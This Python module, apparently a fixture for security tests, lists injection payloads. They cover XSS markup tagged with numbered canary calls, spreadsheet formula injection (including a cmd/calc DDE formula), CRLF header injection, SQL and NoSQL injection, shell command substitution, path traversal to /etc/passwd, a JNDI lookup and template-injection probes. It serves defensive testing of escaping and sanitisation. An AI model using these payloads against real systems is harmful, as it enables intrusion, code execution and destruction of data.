"""What an attacker writes where others expect words: markup, formulas, ends of headers and lines.

Each markup payload says its number if it ever runs or is fetched: `ran(7)` as code, `ran-7` in an address.
"""

from __future__ import annotations

import re

_MARKUP = (
    "<script>ran(N)</script>", "<img src=ran-N onerror=ran(N)>", "<svg onload=ran(N)>", "<svg/onload=ran(N)//",
    "\"><script>ran(N)</script>", "'><img src=ran-N onerror=ran(N)>", "</script><script>ran(N)</script>",
    "</title><script>ran(N)</script>", "</textarea><script>ran(N)</script>", "</style><script>ran(N)</script>",
    "--><script>ran(N)</script>", "<!--><img src=ran-N onerror=ran(N)>-->", "]]><script>ran(N)</script>",
    "<ScRiPt>ran(N)</sCrIpT>", "<script\x0c>ran(N)</script>", "<<script>ran(N)//<</script>",
    "<scr<script>ipt>ran(N)</scr</script>ipt>", "<script src=//ran-N.example></script>",
    "<iframe src=javascript:ran(N)>", "<iframe srcdoc='<script>parent.ran(N)</script>'>",
    "<object data=javascript:ran(N)>", "<embed src=javascript:ran(N)>", "<base href=//ran-N.example/>",
    "<link rel=stylesheet href=ran-N>", "<link rel=import href=ran-N>", "<meta http-equiv=refresh content=0;url=ran-N>",
    "<a href=javascript:ran(N)>x</a>", "<a href='java\tscript:ran(N)'>x</a>", "[x](javascript:ran(N))",
    "![x](ran-N)", "<https://ran-N.example>", "javascript:ran(N)", "data:text/html,<script>ran(N)</script>",
    "<form action=javascript:ran(N)><button>x</button></form>", "<button formaction=javascript:ran(N)>x</button>",
    "<input autofocus onfocus=ran(N)>", "<details open ontoggle=ran(N)>", "<video src=ran-N onerror=ran(N)>",
    "<audio src=ran-N onerror=ran(N)>", "<body onload=ran(N)>", "<marquee onstart=ran(N)>",
    "<div style=animation-name:x onanimationstart=ran(N)>", "<div style='background:url(ran-N)'>",
    "<style>*{background:url(ran-N)}</style>", "<style>@import 'ran-N';</style>", "<table background=ran-N>",
    "<math><mi//xlink:href='javascript:ran(N)'>", "<svg><a xlink:href=javascript:ran(N)><text>x</text></a></svg>",
    "<svg><script>ran(N)</script></svg>", "<svg><use href=ran-N#x>", "<svg><image href=ran-N>",
    "<svg><animate onbegin=ran(N) attributeName=x dur=1s>", "<template><script>ran(N)</script></template>",
    "<noscript><p title='</noscript><img src=ran-N onerror=ran(N)>'>", "&lt;script&gt;ran(N)&lt;/script&gt;",
    "&#60;img src=ran-N onerror=ran(N)&#62;", "\\u003cscript\\u003eran(N)\\u003c/script\\u003e",
    "${ran(N)}", "{{constructor.constructor('ran(N)')()}}", "';ran(N);//", "\";ran(N);//", "`+ran(N)+`",
    "<img src=`ran-N` onerror=`ran(N)`>", "<x contenteditable onblur=ran(N) tabindex=1 autofocus>",
)
MARKUP = tuple(payload.replace("N", str(number)) for number, payload in enumerate(_MARKUP))
"""At least sixty ways to have something run in a page that takes text for markup."""

FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\")",
            "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", " =1+1", "\ufeff=1+1", "pool;=1+1",
            "pool\n=1+1", "pool\t@SUM(A1)")
"""What a spreadsheet would compute, some of it only where lines are cut at semicolons."""

LINES = ("a\r\nX-Injected: 1", "a\nX-Injected: 1", "a\rX-Injected: 1", "a\r\n\r\n<script>ran(0)</script>",
         "a\u0085X-Injected: 1", "a\u2028X-Injected: 1", "a\x0bX-Injected: 1", "a\x00X-Injected: 1",
         "a\x1b[2J\x1b[31mforged", "%0d%0aX-Injected:%201", "a\u560a\u560dX-Injected: 1")
"""Ends of lines and of headers, plain and in disguise."""

STATEMENTS = ("' OR '1'='1", "'; DROP TABLE alert; --", "\" OR 1=1 --", "%", "_", "\\", "%' ESCAPE '\\", "x') OR (1=1",
              "{$gt: 0}", "$(id)", "`id`", "; FLUSHALL\r\n", "*\r\n$8\r\nFLUSHALL", "../../etc/passwd", "\x00",
              "${jndi:ldap://127.0.0.1/x}", "{0.__class__}", "%s%s%s%n", "{{7*7}}")
"""What some other language would take for more than a text."""
assert len(set(MARKUP)) >= 60


def bundles(limit: int) -> tuple[str, ...]:
    """All of MARKUP, in as few texts of at most so many characters as it takes. An address begins one: further on it
    would be none."""
    made = [""]
    for payload in MARKUP:
        if len(made[-1]) + len(payload) >= limit or payload.startswith(("javascript:", "data:")):
            made.append("")
        made[-1] = f"{made[-1]} {payload}".strip()
    return tuple(made)


def numbers(text: str) -> set[int]:
    """Which of MARKUP a text holds, whatever became of the spaces in it."""
    return {int(number) for number in re.findall(r"ran[-(](\d+)", text)}
